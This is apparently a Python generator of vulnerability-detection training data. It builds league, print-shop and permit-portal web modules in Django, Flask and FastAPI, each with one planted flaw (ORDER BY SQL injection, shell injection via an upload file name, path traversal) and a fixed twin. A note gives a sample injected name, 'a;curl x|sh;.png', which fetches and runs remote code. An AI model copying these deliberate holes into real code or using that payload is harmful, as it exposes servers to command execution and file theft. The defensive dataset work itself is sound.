"""Train-only whole-module families (libs23 apps): application modules in domains no family used yet
(a sports league manager, a print-on-demand shop, a municipal permit portal), in Django, Flask and
FastAPI, each with exactly one weak statement among many safe ones, and its
minimal fix as twin. A ``@hardneg(10)`` builder per family assembles safe modules from the same pool of
parts with other draws: bound query values with allow-listed sort columns, converters run from argument
lists, attachment paths resolved and contained.

Covers: a Django standings view pasting the requested sort column into ORDER BY while the season and
limit are bound (89), a Flask artwork upload converted through a shell command holding the uploaded
file name (78), a FastAPI permit-attachment download opening ``os.path.join`` of a path parameter (22).
Written without reading the held-out or validation families; every family here goes to train.
"""
import scenarios.train_modules_safe_web as _web
from core import Spec
from registry import fam, hardneg
from scenarios.train_modules_safe_web import P, fill

_STDLIB = _web._STDLIB | {"fnmatch", "glob", "io", "mimetypes", "pickle", "posixpath", "shlex", "shutil",
                          "stat", "subprocess", "tempfile", "zlib"}
compose, pair = _web.with_stdlib(_STDLIB)


# ---------------- CWE-89: Django league standings, ORDER BY from the request, values bound ----------------


def _lg_kw(c):
    return dict(
        log=c.pick("log", "logger"),
        tbl=c.pick("league_standing", "standings_row", "league_table"),
        team=c.pick("league_team", "club", "league_club"),
        sortp=c.pick("sort", "order", "by"),
        dirp=c.pick("dir", "direction"),
        maxrows=c.pick(50, 100, 200),
        view=c.pick("standings", "league_table", "table_view"),
        SORTS=c.pick("SORT_COLUMNS", "ORDERABLE", "SORTABLE_COLUMNS"),
    )


def _lg_parts(c, shape):
    query = {
        "fstring": '''
                sql = (
                    f"SELECT t.name, s.played, s.won, s.drawn, s.lost, s.goals_for, s.goals_against, s.points "
                    f"FROM $tbl s JOIN $team t ON t.id = s.team_id "
                    f"WHERE s.season_id = %s ORDER BY {$FIX} LIMIT %s"  #@V
                )''',
        "percent": '''
                sql = ("SELECT t.name, s.played, s.won, s.drawn, s.lost, s.goals_for, s.goals_against, s.points "
                       "FROM $tbl s JOIN $team t ON t.id = s.team_id "
                       "WHERE s.season_id = %%s ORDER BY %s LIMIT %%s" % $FIX)  #@V''',
    }[shape]
    limit_line = c.pick('limit = min(int(request.GET.get("limit", 20)), $maxrows)',
                        'limit = max(1, min(int(request.GET.get("limit") or 20), $maxrows))')
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, const='''
            $SORTS = {
                "points": "s.points",
                "goals": "s.goals_for",
                "difference": "s.goals_for - s.goals_against",
                "won": "s.won",
                "name": "t.name",
            }
        '''),
        P("view", rank=3, imp="from django.db import connection\nfrom django.http import HttpResponseBadRequest, JsonResponse\n"
          "from django.views.decorators.http import require_GET\nfrom django.shortcuts import get_object_or_404\n"
          "from .models import Season", body='''
            @require_GET
            def $view(request, season_id: int):
                """League table of one season, sortable by a column the page offers."""
                season = get_object_or_404(Season, pk=season_id)
                sort_key = request.GET.get("$sortp", "points")  #@S
                direction = "ASC" if request.GET.get("$dirp") == "asc" else "DESC"
                try:
                    ''' + limit_line + '''
                except ValueError:
                    return HttpResponseBadRequest("limit must be a number")
        ''' + query + '''
                with connection.cursor() as cursor:
                    cursor.execute(sql, [season.pk, limit])
                    cols = [col[0] for col in cursor.description]
                    rows = [dict(zip(cols, r)) for r in cursor.fetchall()]
                $log.info("standings season=%s rows=%d", season.pk, len(rows))
                return JsonResponse({"season": season.name, "rows": rows})
        '''),
    ]
    pool = [
        P("fixtures", rank=4, imp="from django.db import connection\nfrom django.http import JsonResponse\n"
          "from django.views.decorators.http import require_GET", body='''
            @require_GET
            def fixtures(request, season_id: int):
                """Upcoming fixtures of a season; the round filter is bound like every other value."""
                round_no = request.GET.get("round")
                sql = "SELECT id, home_id, away_id, kickoff FROM league_fixture WHERE season_id = %s"
                params: list = [season_id]
                if round_no and round_no.isdigit():
                    sql += " AND round_no = %s"
                    params.append(int(round_no))
                with connection.cursor() as cursor:
                    cursor.execute(sql + " ORDER BY kickoff ASC", params)
                    rows = cursor.fetchall()
                return JsonResponse({"fixtures": [
                    {"id": r[0], "home": r[1], "away": r[2], "kickoff": r[3].isoformat()} for r in rows]})
        '''),
        P("scorers", rank=4, imp="from django.db.models import Sum\nfrom django.http import JsonResponse\nfrom .models import Goal", body='''
            def top_scorers(request, season_id: int):
                """Top scorers through the ORM: no SQL text at all."""
                qs = (Goal.objects.filter(match__season_id=season_id, own_goal=False)
                      .values("player__name").annotate(goals=Sum("count")).order_by("-goals")[:10])
                return JsonResponse({"scorers": list(qs)})
        '''),
        P("result", rank=4, imp="import json\nfrom django.contrib.auth.decorators import permission_required\n"
          "from django.db import transaction\nfrom django.http import HttpResponseBadRequest, JsonResponse\n"
          "from django.views.decorators.http import require_POST\nfrom .models import Match", body='''
            @require_POST
            @permission_required("league.change_match")
            def record_result(request, match_id: int):
                """Referees record a final score; the standings are recomputed in the same transaction."""
                try:
                    data = json.loads(request.body)
                    home, away = int(data["home"]), int(data["away"])
                except (ValueError, KeyError, TypeError):
                    return HttpResponseBadRequest("home and away scores are required")
                with transaction.atomic():
                    match = Match.objects.select_for_update().get(pk=match_id)
                    match.home_score, match.away_score, match.finished = home, away, True
                    match.save(update_fields=["home_score", "away_score", "finished"])
                    match.season.recompute_table()
                return JsonResponse({"ok": True})
        '''),
        P("etag", rank=1, imp="import hashlib", body='''
            def table_etag(rows: list) -> str:
                """Validator for conditional GETs of the table; md5 only fingerprints."""
                return hashlib.md5(repr(rows).encode(), usedforsecurity=False).hexdigest()
        '''),
    ]
    return core, pool


_LG_DOCS = ["Views of the league manager: standings, fixtures and results.",
            "League table endpoints for the amateur sports league site.",
            "Season views (standings, fixtures, scorers) of the league manager app."]


@fam("mod23-django-league-standings-sort-orderby", "CWE-89", fws=["django"], n=8, wrap=False)
def mod23_league_orderby(c):
    kw = _lg_kw(c)
    shape = c.pick("fstring", "percent")
    core, pool = _lg_parts(c, shape)
    vcol = "sort_key + ' ' + direction" if shape == "fstring" else "(sort_key + ' ' + direction)"
    scol = "$SORTS.get(sort_key, 's.points') + ' ' + direction"
    scol = scol if shape == "fstring" else "(" + scol + ")"
    v, s = pair(c, c.pick(*_LG_DOCS), '$log = logging.getLogger(__name__)', core, pool, kw, fill(vcol, **kw), fill(scol, **kw))
    return Spec(v=v, s=s, full=True, fw="django",
                notes="the season id and the limit are bound, but the sort key from the query string is pasted "
                      "into the ORDER BY clause, so a request can append arbitrary SQL (subqueries, UNION-less "
                      "boolean probes); the fix maps the key through the allow-list of sortable columns")


@hardneg(10)
def mod23_league_orderby_hn(c):
    kw = _lg_kw(c)
    shape = c.pick("fstring", "percent")
    core, pool = _lg_parts(c, shape)
    scol = c.pick("$SORTS.get(sort_key, 's.points') + ' ' + direction",
                  "$SORTS[sort_key if sort_key in $SORTS else 'points'] + ' ' + direction")
    scol = scol if shape == "fstring" else "(" + scol + ")"
    code = compose(c, c.pick(*_LG_DOCS), '$log = logging.getLogger(__name__)', core, pool, kw,
                   subs=[{"$FIX": fill(scol, **kw)}])[0]
    return Spec(s=code.replace("  #@V", "").replace("  #@S", ""), full=True, fw="django",
                notes="ORDER BY built only from an allow-listed column map; season id and limit bound as parameters")


# ---------------- CWE-78: Flask print-on-demand artwork upload converted through a shell ----------------


def _pod_kw(c):
    return dict(
        log=c.pick("log", "logger"),
        bp=c.pick("artwork", "designs", "prints"),
        field=c.pick("artwork", "design", "file"),
        dpi=c.pick(300, 240, 150),
        size=c.pick("4500x5400", "3600x4800", "2400x3200"),
        ENV=c.pick("ARTWORK_DIR", "POD_UPLOAD_DIR", "DESIGN_STORE"),
        conv=c.pick("convert", "magick"),
    )


def _pod_parts(c):
    pre = c.pick('''
                src = os.path.join(job_dir, upload.filename)  #@S
                upload.save(src)''', '''
                src = f"{job_dir}/{upload.filename}"  #@S
                upload.save(src)''')
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import os", const='''
            UPLOAD_ROOT = os.environ.get("$ENV", "/srv/pod/uploads")
            ALLOWED_EXT = {".png", ".jpg", ".jpeg", ".tif", ".tiff"}
            MAX_BYTES = 40 * 1024 * 1024
        '''),
        P("bp", rank=1, imp="from flask import Blueprint", setup='bp = Blueprint("$bp", __name__, url_prefix="/$bp")'),
        P("upload", rank=3, imp="import os\nimport subprocess\nimport uuid\nfrom flask import abort, jsonify, request\n"
          "from flask_login import current_user, login_required", body='''
            @bp.post("/")
            @login_required
            def upload_artwork():
                """Store a customer's artwork and render the print-ready file at $dpi dpi."""
                upload = request.files.get("$field")
                if upload is None or not upload.filename:
                    abort(400, "no artwork attached")
                if os.path.basename(upload.filename) != upload.filename or upload.filename.startswith("."):
                    abort(400, "invalid file name")
                ext = os.path.splitext(upload.filename)[1].lower()
                if ext not in ALLOWED_EXT:
                    abort(415, "unsupported image type")
                if request.content_length and request.content_length > MAX_BYTES:
                    abort(413)
                job_id = uuid.uuid4().hex
                job_dir = os.path.join(UPLOAD_ROOT, str(current_user.id), job_id)
                os.makedirs(job_dir, exist_ok=True)''' + pre + '''
                out = os.path.join(job_dir, "print.png")
                $FIX
                if proc.returncode != 0:
                    $log.warning("render failed for job %s: %s", job_id, proc.stderr[-300:])
                    abort(422, "the artwork could not be rendered")
                $log.info("artwork job %s rendered for user %s", job_id, current_user.id)
                return jsonify(job=job_id, preview=f"/$bp/{job_id}/preview"), 201
        '''),
    ]
    pool = [
        P("preview", rank=4, imp="import os\nimport re\nfrom flask import abort, send_from_directory\n"
          "from flask_login import current_user, login_required", const='JOB_ID = re.compile(r"[0-9a-f]{32}")', body='''
            @bp.get("/<job_id>/preview")
            @login_required
            def preview(job_id: str):
                """The rendered print file of one of the user's own jobs."""
                if not JOB_ID.fullmatch(job_id):
                    abort(404)
                return send_from_directory(os.path.join(UPLOAD_ROOT, str(current_user.id), job_id), "print.png")
        '''),
        P("identify", rank=2, imp="import subprocess", body='''
            def image_size(path: str) -> tuple[int, int]:
                """Pixel size via ImageMagick's identify, run from an argument list (no shell)."""
                out = subprocess.run(["identify", "-format", "%w %h", "--", path],
                                     capture_output=True, text=True, check=True, timeout=30).stdout
                w, h = out.split()
                return int(w), int(h)
        '''),
        P("price", rank=2, imp="from decimal import Decimal", const='BASE_PRICES = {"tee": Decimal("14.00"), "poster": Decimal("9.50"), "mug": Decimal("11.00")}', body='''
            def quote_price(product: str, quantity: int) -> Decimal:
                """Unit price with a volume discount from 10 pieces."""
                unit = BASE_PRICES[product]
                if quantity >= 10:
                    unit *= Decimal("0.9")
                return (unit * quantity).quantize(Decimal("0.01"))
        '''),
        P("cleanup", rank=2, imp="import os\nimport shutil\nimport time", body='''
            def purge_old_jobs(max_age_days: int = 30) -> int:
                """Remove job folders nobody ordered from within ``max_age_days``."""
                cutoff = time.time() - max_age_days * 86400
                removed = 0
                for entry in os.scandir(UPLOAD_ROOT):
                    if entry.is_dir() and entry.stat().st_mtime < cutoff:
                        shutil.rmtree(entry.path, ignore_errors=True)
                        removed += 1
                return removed
        '''),
    ]
    return core, pool


_POD_DOCS = ["Artwork uploads of the print-on-demand shop: storage and print-file rendering.",
             "Design upload blueprint: customers upload artwork, we render the print-ready PNG.",
             "Print shop artwork intake (Flask blueprint)."]


def _pod_cmd(c, safe):
    if safe:
        return c.pick(
            'proc = subprocess.run(["$conv", src, "-density", "$dpi", "-resize", "$size", out], capture_output=True, text=True, timeout=120)',
            'proc = subprocess.run(["$conv", "-density", "$dpi", src, "-resize", "$size", out], capture_output=True, text=True, check=False, timeout=120)')
    return c.pick(
        'proc = subprocess.run(f"$conv {src} -density $dpi -resize $size {out}", shell=True, capture_output=True, text=True, timeout=120)  #@V',
        'proc = subprocess.run("$conv %s -density $dpi -resize $size %s" % (src, out), shell=True, capture_output=True, text=True)  #@V')


@fam("mod23-flask-print-shop-artwork-render-shell", "CWE-78", fws=["flask"], n=8, wrap=False)
def mod23_pod_shell(c):
    kw = _pod_kw(c)
    core, pool = _pod_parts(c)
    v, s = pair(c, c.pick(*_POD_DOCS), '$log = logging.getLogger(__name__)', core, pool, kw,
                fill(_pod_cmd(c, False), **kw), fill(_pod_cmd(c, True), **kw))
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="the stored path keeps the client's upload file name (only its extension is checked), and the "
                      "ImageMagick command is a shell string: a name like 'a;curl x|sh;.png' runs commands on the "
                      "render host; the fix runs the converter from an argument list without a shell")


@hardneg(10)
def mod23_pod_shell_hn(c):
    kw = _pod_kw(c)
    core, pool = _pod_parts(c)
    code = compose(c, c.pick(*_POD_DOCS), '$log = logging.getLogger(__name__)', core, pool, kw,
                   subs=[{"$FIX": fill(_pod_cmd(c, True), **kw)}])[0]
    return Spec(s=code.replace("  #@V", "").replace("  #@S", ""), full=True, fw="flask",
                notes="converter and identify run from argument lists; previews served with send_from_directory")


# ---------------- CWE-22: FastAPI permit portal attachment download via open(os.path.join(...)) ----------------


def _pm_kw(c):
    return dict(
        log=c.pick("log", "logger"),
        ENV=c.pick("PERMIT_FILES", "PERMIT_ATTACHMENTS_DIR", "PORTAL_STORAGE"),
        router=c.pick("router", "permits"),
        prefix=c.pick("/permits", "/applications", "/api/permits"),
    )


def _pm_parts(c, shape):
    if shape == "inline":
        read = '''
                folder = os.path.join(STORAGE_ROOT, str(permit.id))
                $FIX
                with open(path, "rb") as fh:  #@V
                    data = fh.read()'''
    else:
        read = '''
                $FIX
                with open(path, "rb") as fh:  #@V
                    data = fh.read()'''
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import os", const='STORAGE_ROOT = os.path.realpath(os.environ.get("$ENV", "/var/lib/permits"))'),
        P("router", rank=1, imp="from fastapi import APIRouter", setup='$router = APIRouter(prefix="$prefix", tags=["permits"])'),
        P("download", rank=3, imp="import mimetypes\nimport os\nfrom fastapi import Depends, HTTPException, Response\n"
          "from .auth import current_resident\nfrom .db import get_permit", body='''
            @$router.get("/{permit_id}/attachments/{name:path}")
            async def download_attachment(permit_id: int, name: str, resident=Depends(current_resident)):  #@S
                """A plan, photo or certificate attached to one of the resident's own applications."""
                permit = await get_permit(permit_id)
                if permit is None or permit.applicant_id != resident.id:
                    raise HTTPException(status_code=404, detail="no such application")''' + read + '''
                ctype = mimetypes.guess_type(name)[0] or "application/octet-stream"
                $log.info("attachment %r of permit %s downloaded", name, permit.id)
                return Response(content=data, media_type=ctype,
                                headers={"Content-Disposition": f'attachment; filename="{os.path.basename(name)}"'})
        '''),
    ]
    pool = [
        P("status", rank=4, imp="from fastapi import Depends, HTTPException\nfrom .auth import current_resident\nfrom .db import get_permit", body='''
            @$router.get("/{permit_id}")
            async def permit_status(permit_id: int, resident=Depends(current_resident)):
                """Status and review history of an application, for its applicant only."""
                permit = await get_permit(permit_id)
                if permit is None or permit.applicant_id != resident.id:
                    raise HTTPException(status_code=404, detail="no such application")
                return {"id": permit.id, "kind": permit.kind, "status": permit.status,
                        "submitted": permit.submitted_at.isoformat(), "reviews": len(permit.reviews)}
        '''),
        P("fee", rank=2, imp="from decimal import Decimal", const='FEES = {"fence": Decimal("45"), "deck": Decimal("120"), "extension": Decimal("380")}', body='''
            def permit_fee(kind: str, area_m2: float) -> Decimal:
                """Flat fee per kind plus a surcharge per square metre above 20 m2."""
                fee = FEES.get(kind, Decimal("60"))
                if area_m2 > 20:
                    fee += Decimal("2.5") * Decimal(str(round(area_m2 - 20, 1)))
                return fee.quantize(Decimal("0.01"))
        '''),
        P("model", rank=2, imp="from pydantic import BaseModel, Field", body='''
            class PermitRequest(BaseModel):
                kind: str = Field(pattern=r"^(fence|deck|extension|signage)$")
                parcel: str = Field(min_length=3, max_length=32)
                area_m2: float = Field(gt=0, le=5000)
                description: str = Field(max_length=2000)
        '''),
        P("listing", rank=4, imp="import os\nfrom fastapi import Depends, HTTPException\nfrom .auth import current_resident\nfrom .db import get_permit", body='''
            @$router.get("/{permit_id}/attachments")
            async def list_attachments(permit_id: int, resident=Depends(current_resident)):
                """Names of the files stored with an application."""
                permit = await get_permit(permit_id)
                if permit is None or permit.applicant_id != resident.id:
                    raise HTTPException(status_code=404, detail="no such application")
                folder = os.path.join(STORAGE_ROOT, str(permit.id))
                return sorted(e.name for e in os.scandir(folder) if e.is_file()) if os.path.isdir(folder) else []
        '''),
    ]
    return core, pool


_PM_DOCS = ["Municipal permit portal: application status and attachment downloads.",
            "Resident-facing permit endpoints (FastAPI router).",
            "Building-permit applications: fees, status and stored attachments."]


def _pm_fix(c, shape, safe):
    if not safe:
        return "path = os.path.join(folder, name)  #@V" if shape == "inline" else \
            "path = os.path.join(STORAGE_ROOT, str(permit.id), name)  #@V"
    if shape == "inline":
        return c.pick('''path = os.path.realpath(os.path.join(folder, name))
    if os.path.commonpath([path, os.path.realpath(folder)]) != os.path.realpath(folder) or not os.path.isfile(path):
        raise HTTPException(status_code=404, detail="no such attachment")''',
                      '''path = os.path.realpath(os.path.join(folder, name))
    if not path.startswith(os.path.realpath(folder) + os.sep) or not os.path.isfile(path):
        raise HTTPException(status_code=404, detail="no such attachment")''')
    return '''path = os.path.join(STORAGE_ROOT, str(permit.id), os.path.basename(name))
    if not os.path.isfile(path):
        raise HTTPException(status_code=404, detail="no such attachment")'''


@fam("mod23-fastapi-permit-attachment-path-join", "CWE-22", fws=["fastapi"], n=8, wrap=False)
def mod23_permit_pt(c):
    kw = _pm_kw(c)
    shape = c.pick("inline", "direct")
    core, pool = _pm_parts(c, shape)
    vfix = _pm_fix(c, shape, False)
    v, s = pair(c, c.pick(*_PM_DOCS), '$log = logging.getLogger(__name__)', core, pool, kw,
                fill(vfix, **kw), fill(_pm_fix(c, shape, True), **kw))
    return Spec(v=v, s=s, full=True, fw="fastapi",
                notes="the {name:path} parameter may hold '../' segments, and the attachment path is opened as "
                      "os.path.join of the permit folder and that name without a containment check, so a resident "
                      "can read any file the service can (other applications, settings); the fix resolves the path "
                      "and requires it under the permit folder (or keeps only the base name)")


@hardneg(10)
def mod23_permit_pt_hn(c):
    kw = _pm_kw(c)
    shape = c.pick("inline", "direct")
    core, pool = _pm_parts(c, shape)
    code = compose(c, c.pick(*_PM_DOCS), '$log = logging.getLogger(__name__)', core, pool, kw,
                   subs=[{"$FIX": fill(_pm_fix(c, shape, True), **kw)}])[0]
    return Spec(s=code.replace("  #@V", "").replace("  #@S", ""), full=True, fw="fastapi",
                notes="attachment path resolved and contained in the permit folder (or reduced to its base name)")
